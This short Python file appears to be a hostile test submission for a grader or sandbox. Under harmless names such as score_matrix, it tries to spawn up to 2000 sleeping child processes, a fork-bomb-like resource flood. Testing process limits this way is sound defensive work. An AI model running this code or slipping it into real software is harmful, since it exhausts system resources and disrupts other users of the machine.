"""Forks as often as it can."""
import os
import time


def stack_rows(vectors):
    for _ in range(2000):
        try:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        except OSError:
            pass
    time.sleep(2)


def score_matrix(Q, K):
    return stack_rows(Q)


def favourite_movie(S, user):
    return -1
